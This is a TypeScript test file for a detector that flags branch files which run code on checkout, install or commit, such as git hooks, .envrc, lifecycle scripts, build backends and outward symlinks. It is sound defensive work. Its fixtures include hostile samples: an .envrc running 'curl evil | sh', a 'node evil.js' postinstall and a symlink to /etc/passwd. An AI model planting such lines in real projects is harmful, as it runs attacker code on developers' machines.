/**
 * The files of a branch that run code once taken (code-running-files.ts): one case per rule, the paths elsewhere that
 * are not flagged, the rules that read a file's content, modes and symbolic links, and the list read from a real git.
 */
import { chmod, mkdtemp, rm, symlink } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  CODE_RUNNING_RULES,
  blobsToRead,
  codeRunningFiles,
  codeRunningFilesBetween,
  parseRawDiff,
} from '../../../../src-main/core/jobs/git/code-running-files.js';
import type { BranchChange } from '../../../../src-main/core/jobs/git/code-running-files.js';
import { gitIn, makeRepo, writeFiles } from '../../../support/git-repo.js';

const NONE = '0000000000000000000000000000000000000000';
let next = 1;
const blobId = () => (next++).toString(16).padStart(40, 'a');

/** A file the branch adds (or, with `before`, modifies), its texts kept as blobs. */
function change(file: string, after: string | null = 'x', before: string | null = null, modes: { oldMode?: string; newMode?: string } = {}) {
  const oldBlob = before === null ? NONE : blobId();
  const newBlob = after === null ? NONE : blobId();
  const blobs = new Map<string, string>();
  if (before !== null) blobs.set(oldBlob, before);
  if (after !== null) blobs.set(newBlob, after);
  const entry: BranchChange = {
    path: file,
    status: after === null ? 'D' : before === null ? 'A' : 'M',
    oldMode: modes.oldMode ?? (before === null ? '000000' : '100644'),
    newMode: modes.newMode ?? (after === null ? '000000' : '100644'),
    oldBlob,
    newBlob,
  };
  return { entry, blobs };
}

function flagged(file: string, after: string | null = 'x', before: string | null = null, modes = {}) {
  const { entry, blobs } = change(file, after, before, modes);
  return codeRunningFiles([entry], blobs);
}

/** One path per rule, with the text that makes a content rule flag it. */
const CASES: ReadonlyArray<readonly [rule: string, file: string, text?: string]> = [
  ['husky', '.husky/pre-commit'],
  ['githooks', '.githooks/pre-push'],
  ['lefthook', 'lefthook.yml'],
  ['pre-commit', '.pre-commit-config.yaml'],
  ['envrc', '.envrc'],
  ['package.json', 'package.json', '{"scripts":{"postinstall":"node x.js"}}'],
  ['npmrc', '.npmrc'],
  ['yarnrc', '.yarnrc.yml'],
  ['pnpmfile', '.pnpmfile.cjs'],
  ['yarn pnp', '.pnp.cjs'],
  ['yarn folder', '.yarn/releases/yarn-4.1.0.cjs'],
  ['bunfig', 'bunfig.toml'],
  ['bazel', '.bazelrc'],
  ['build wrappers', 'gradle/wrapper/gradle-wrapper.properties'],
  ['conftest', 'tests/conftest.py'],
  ['setup.py', 'setup.py'],
  ['pyproject', 'pyproject.toml', '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil.build"\n'],
  ['sitecustomize', 'sitecustomize.py'],
  ['pth', 'lib/evil.pth'],
  ['build.rs', 'crates/core/build.rs'],
  ['cargo config', '.cargo/config.toml'],
  ['mise', '.mise.toml'],
  ['tool-versions', '.tool-versions'],
  ['devcontainer', '.devcontainer/devcontainer.json'],
  ['devcontainer', '.devcontainer.json'],
  ['vscode', '.vscode/tasks.json'],
  ['cursor', '.cursor/mcp.json'],
  ['idea', '.idea/workspace.xml'],
  ['pyright', 'pyrightconfig.json'],
  ['github workflows', '.github/workflows/ci.yml'],
  ['github actions', '.github/actions/setup/action.yml'],
  ['gitlab-ci', '.gitlab-ci.yml'],
  ['gitattributes', '.gitattributes', '*.txt filter=evil\n'],
  ['gitmodules', '.gitmodules'],
  ['gitconfig', '.gitconfig'],
  ['mcp.json', '.mcp.json'],
  ['claude', '.claude/settings.json'],
  ['steering', 'CLAUDE.md'],
];

describe('codeRunningFiles: one case per rule', () => {
  it('has a case for every rule', () => {
    expect([...new Set(CASES.map(([rule]) => rule))].sort()).toEqual(CODE_RUNNING_RULES.map((rule) => rule.name).sort());
  });

  it.each(CASES.map(([rule, file, text = 'x']): [string, string, string] => [rule, file, text]))('%s: flags %s', (rule, file, text) => {
    const reason = CODE_RUNNING_RULES.find((r) => r.name === rule)?.reason;
    const [found] = flagged(file, text);
    expect(found?.path).toBe(file);
    if (typeof reason === 'string') expect(found?.reason).toBe(reason);
    else expect(found?.reason).toMatch(/\w/);
  });
});

describe('codeRunningFiles: paths elsewhere', () => {
  it.each([
    'src/husky.ts',
    'docs/CLAUDE.md.txt',
    'docs/envrc.md',
    'src/package.json.ts',
    'Makefile',
    'src/setup.py.bak',
    'docs/.github/workflows/ci.yml',
    'src/build.rs.txt',
    'notes/.gitmodules.md',
    'src/yarn/index.ts',
    'docs/idea.md',
  ])('does not flag %s', (file) => {
    expect(flagged(file)).toEqual([]);
  });

  it('does not flag a deleted hook', () => {
    expect(flagged('.husky/pre-commit', null, 'npm test')).toEqual([]);
  });
});

describe('codeRunningFiles: by content', () => {
  it('names lifecycle scripts as what runs on npm install, and other scripts after', () => {
    const before = JSON.stringify({ scripts: { test: 'vitest' } });
    const after = JSON.stringify({ scripts: { test: 'vitest run', postinstall: 'node x.js', prepare: 'husky' } });
    expect(flagged('package.json', after, before)).toEqual([{ path: 'package.json', reason: 'postinstall, prepare run on npm install; scripts test' }]);
  });

  it('does not flag a package.json whose scripts did not change', () => {
    const before = JSON.stringify({ version: '1.0.0', scripts: { test: 'vitest' } });
    expect(flagged('package.json', JSON.stringify({ version: '1.1.0', scripts: { test: 'vitest' } }), before)).toEqual([]);
    expect(flagged('package.json', JSON.stringify({ name: 'new' }))).toEqual([]);
  });

  it('flags a package.json that is not valid JSON', () => {
    expect(flagged('package.json', '{ "scripts": ', '{}')[0]?.reason).toMatch(/not valid JSON/);
  });

  it('flags a pyproject.toml only when its build-system table changed', () => {
    const old = '[project]\nname = "a"\n\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
    expect(flagged('pyproject.toml', old.replace('name = "a"', 'name = "b"'), old)).toEqual([]);
    expect(flagged('pyproject.toml', old.replace('hatchling.build', 'evil.build'), old)[0]?.reason).toBe('its build backend runs on pip install');
  });

  it('flags a .gitattributes only when it names a filter, diff or merge driver', () => {
    expect(flagged('.gitattributes', '*.png binary\n*.sh text eol=lf\n')).toEqual([]);
    expect(flagged('.gitattributes', '*.bin diff=hexdump\n')).toHaveLength(1);
  });

  it('says a file whose content it could not read, rather than pass it', () => {
    const { entry } = change('package.json', '{}', '{}');
    expect(codeRunningFiles([entry], new Map())[0]?.reason).toMatch(/could not be read/);
  });

  it('reads both sides of the files whose content decides, and a link target, nothing else', () => {
    const pkg = change('package.json', '{}', '{}').entry;
    const link = change('docs/link', 'target', null, { newMode: '120000' }).entry;
    const plain = change('src/a.ts', 'x', 'y').entry;
    expect(blobsToRead([pkg, link, plain])).toEqual([pkg.oldBlob, pkg.newBlob, link.newBlob]);
  });
});

describe('codeRunningFiles: modes and links', () => {
  it('flags a file made executable, and not one that already was', () => {
    expect(flagged('scripts/run.sh', 'echo', null, { newMode: '100755' })).toEqual([{ path: 'scripts/run.sh', reason: 'made executable' }]);
    expect(flagged('scripts/run.sh', 'echo 2', 'echo', { oldMode: '100755', newMode: '100755' })).toEqual([]);
  });

  it.each([
    ['/etc/passwd', 'docs/link'],
    ['../../outside', 'docs/link'],
    ['../.git/hooks/pre-commit', 'docs/link'],
  ])('flags a symbolic link to %s', (target, file) => {
    expect(flagged(file, target, null, { newMode: '120000' })).toEqual([{ path: file, reason: `a symbolic link to ${target}, outside the repository` }]);
  });

  it('does not flag a symbolic link that stays inside the repository', () => {
    expect(flagged('docs/link', '../src/app.ts', null, { newMode: '120000' })).toEqual([]);
  });

  it('joins the reasons of a file that runs code twice over', () => {
    expect(flagged('.envrc', 'x', null, { newMode: '100755' })[0]?.reason).toBe('direnv runs it on cd; made executable');
  });
});

describe('parseRawDiff', () => {
  it('reads modes, blobs, status and path, a path with spaces included', () => {
    const a = 'a'.repeat(40);
    const raw = `:000000 100755 ${NONE} ${a} A\0my dir/run.sh\0:100644 100644 ${a} ${a} M\0.envrc\0`;
    expect(parseRawDiff(raw)).toEqual([
      { path: 'my dir/run.sh', status: 'A', oldMode: '000000', newMode: '100755', oldBlob: NONE, newBlob: a },
      { path: '.envrc', status: 'M', oldMode: '100644', newMode: '100644', oldBlob: a, newBlob: a },
    ]);
  });
});

describe('codeRunningFilesBetween, with the real git', () => {
  const roots: string[] = [];
  afterAll(async () => {
    await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true })));
  });

  it('lists what the branch added that runs code, with why, by path', async () => {
    const root = await mkdtemp(path.join(os.tmpdir(), 'od-runs-code-'));
    roots.push(root);
    const base = await makeRepo(root, { 'package.json': JSON.stringify({ name: 'a', scripts: { test: 'vitest' } }), 'src/a.ts': 'a\n' });
    await writeFiles(root, {
      '.envrc': 'curl evil | sh\n',
      '.husky/pre-commit': 'npm test\n',
      'package.json': JSON.stringify({ name: 'a', scripts: { test: 'vitest', postinstall: 'node evil.js' } }),
      'src/a.ts': 'b\n',
      'src/husky.ts': 'export {};\n',
      'scripts/run.sh': 'echo\n',
    });
    await chmod(path.join(root, 'scripts/run.sh'), 0o755);
    await symlink('/etc/passwd', path.join(root, 'src/passwd'));
    await gitIn(root, ['add', '--all']);
    await gitIn(root, ['commit', '--quiet', '-m', 'delegate']);
    const tip = (await gitIn(root, ['rev-parse', 'HEAD'])).trim();
    const found = await codeRunningFilesBetween((args) => gitIn(root, [...args]), base, tip);
    expect(found).toEqual([
      { path: '.envrc', reason: 'direnv runs it on cd' },
      { path: '.husky/pre-commit', reason: 'a git hook (husky): git runs it on commit or push' },
      { path: 'package.json', reason: 'postinstall runs on npm install' },
      { path: 'scripts/run.sh', reason: 'made executable' },
      { path: 'src/passwd', reason: 'a symbolic link to /etc/passwd, outside the repository' },
    ]);
  });
});
